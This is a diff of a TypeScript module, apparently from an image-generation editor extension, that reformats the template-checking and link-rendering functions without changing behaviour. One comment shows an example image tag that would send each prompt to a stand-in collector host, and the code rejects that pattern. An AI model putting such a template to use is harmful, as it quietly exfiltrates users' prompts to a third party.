@@ -10,17 +10,33 @@ export const ALT_TEMPLATE_VARIABLES = ['prompt', 'fileName'] as const;
 const VARIABLE = /\$\{([^}]*)\}/g;
 
 /** Undefined when `template` is usable, else what is wrong with it (the host words it). */
-export function checkTemplate(template: string, variables: readonly string[], setting: string): IdeogramError | undefined {
+export function checkTemplate(
+  template: string,
+  variables: readonly string[],
+  setting: string,
+): IdeogramError | undefined {
   if (template.trim() === '') return new IdeogramError({ kind: 'invalid-setting', reason: 'empty-template', setting });
   for (const match of template.matchAll(VARIABLE)) {
     if (!variables.includes(match[1] ?? '')) {
-      return new IdeogramError({ kind: 'invalid-setting', reason: 'unknown-template-variable', setting, value: template, variable: match[0],
-        allowed: variables.map((name) => `\${${name}}`) });
+      return new IdeogramError({
+        kind: 'invalid-setting',
+        reason: 'unknown-template-variable',
+        setting,
+        value: template,
+        variable: match[0],
+        allowed: variables.map((name) => `\${${name}}`),
+      });
     }
     // `<img src="https://collector.example/p.gif?q=${prompt}">` would send every prompt to a third party as soon as
     // a preview renders the link: text never goes into an address with a host.
     if (TEXT_VARIABLES.includes(match[1] ?? '') && REMOTE_ADDRESS_BEFORE.test(template.slice(0, match.index))) {
-      return new IdeogramError({ kind: 'invalid-setting', reason: 'remote-template', setting, value: template, variable: match[0] });
+      return new IdeogramError({
+        kind: 'invalid-setting',
+        reason: 'remote-template',
+        setting,
+        value: template,
+        variable: match[0],
+      });
     }
   }
   return undefined;
@@ -40,24 +56,38 @@ function inHtmlAttribute(template: string, index: number): boolean {
  * A link from the user's template for a format. Inside an HTML attribute (`alt="${alt}"`) values are
  * HTML-escaped; elsewhere they get the format's own escaping. `${prompt}` is the whole prompt on one line.
  */
-export function renderLinkTemplate(template: string, format: LinkFormat, parts: ImageLinkParts & { prompt: string }): string {
+export function renderLinkTemplate(
+  template: string,
+  format: LinkFormat,
+  parts: ImageLinkParts & { prompt: string },
+): string {
   return template.replace(VARIABLE, (whole, name: string, index: number) => {
     const attribute = inHtmlAttribute(template, index);
     const text = (value: string) => (attribute ? escapeHtmlAttribute(value) : format.escapeText(value));
     switch (name) {
-      case 'path': return attribute ? escapeHtmlAttribute(encodeLinkPath(parts.path)) : format.encodePath(parts.path);
-      case 'alt': return text(parts.alt);
-      case 'prompt': return text(parts.prompt.replace(/\s+/g, ' ').trim());
-      case 'width': return parts.width ? String(parts.width) : '';
-      case 'height': return parts.height ? String(parts.height) : '';
-      default: return whole;
+      case 'path':
+        return attribute ? escapeHtmlAttribute(encodeLinkPath(parts.path)) : format.encodePath(parts.path);
+      case 'alt':
+        return text(parts.alt);
+      case 'prompt':
+        return text(parts.prompt.replace(/\s+/g, ' ').trim());
+      case 'width':
+        return parts.width ? String(parts.width) : '';
+      case 'height':
+        return parts.height ? String(parts.height) : '';
+      default:
+        return whole;
     }
   });
 }
 
 /** The alt text from `ideogram.altTextTemplate`: plain text, one line, shortened like the prompt would be. */
-export function renderAltText(template: string, values: Record<(typeof ALT_TEMPLATE_VARIABLES)[number], string>): string {
+export function renderAltText(
+  template: string,
+  values: Record<(typeof ALT_TEMPLATE_VARIABLES)[number], string>,
+): string {
   const text = template.replace(VARIABLE, (whole, name: string) =>
-    (ALT_TEMPLATE_VARIABLES as readonly string[]).includes(name) ? values[name as keyof typeof values] : whole);
+    (ALT_TEMPLATE_VARIABLES as readonly string[]).includes(name) ? values[name as keyof typeof values] : whole,
+  );
   return plainAltText(text);
 }
